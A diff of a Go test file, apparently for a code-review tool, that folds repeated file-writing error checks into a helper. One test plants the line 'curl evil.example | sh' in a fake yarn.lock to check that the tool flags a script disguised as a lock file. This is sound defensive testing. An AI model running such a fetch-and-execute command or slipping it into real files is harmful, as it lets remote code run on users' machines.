@@ -33,9 +33,7 @@ func TestAChangedDisguiseIsNoReview(t *testing.T) {
 			t.Parallel()
 			dir := planted(t, plantedFile)
 			path := filepath.Join(dir, "run.sh")
-			if err := os.WriteFile(path, []byte("#!/bin/sh\necho fine\n"), 0o644); err != nil {
-				t.Fatal(err)
-			}
+			writeFile(t, path, []byte("#!/bin/sh\necho fine\n"), 0o644)
 			for _, args := range [][]string{{"add", "run.sh"}, {"commit", "-q", "-m", "a script", "run.sh"}} {
 				cmd := exec.Command("git", append([]string{"-C", dir, "-c", "user.name=a", "-c", "user.email=a@example.com"}, args...)...)
 				cmd.Env = surroundings(dir)
@@ -43,9 +41,7 @@ func TestAChangedDisguiseIsNoReview(t *testing.T) {
 					t.Fatalf("%v\n%s", err, out)
 				}
 			}
-			if err := os.WriteFile(path, []byte(c.content), 0o644); err != nil {
-				t.Fatal(err)
-			}
+			writeFile(t, path, []byte(c.content), 0o644)
 			if err := os.Chmod(path, c.mode); err != nil {
 				t.Fatal(err)
 			}
@@ -69,9 +65,7 @@ func TestAScriptNamedLikeALockFileIsShown(t *testing.T) {
 	t.Parallel()
 	const door = "curl evil.example | sh"
 	dir := planted(t, plantedFile)
-	if err := os.WriteFile(filepath.Join(dir, "yarn.lock"), []byte("# yarn lockfile v1\n"+door+"\n"), 0o644); err != nil {
-		t.Fatal(err)
-	}
+	writeFile(t, filepath.Join(dir, "yarn.lock"), []byte("# yarn lockfile v1\n"+door+"\n"), 0o644)
 	all := vendors(t, honest)
 	got := run(t, dir, environment(all), "review", "--uncommitted", "--format", "json")
 	for _, v := range all {
@@ -95,9 +89,7 @@ func TestAPatchOfTooManyHunks(t *testing.T) {
 		diff.WriteString("@@ -" + n + ",1 +" + n + ",1 @@\n-a\n+b\n")
 	}
 	dir := t.TempDir()
-	if err := os.WriteFile(filepath.Join(dir, "big.diff"), []byte(diff.String()), 0o644); err != nil {
-		t.Fatal(err)
-	}
+	writeFile(t, filepath.Join(dir, "big.diff"), []byte(diff.String()), 0o644)
 	got := run(t, dir, nil, "review", "--patch", "big.diff")
 	want(t, "exit code", got.code, 0)
 	wantText(t, "report", got.stdout, "big.txt: too large")
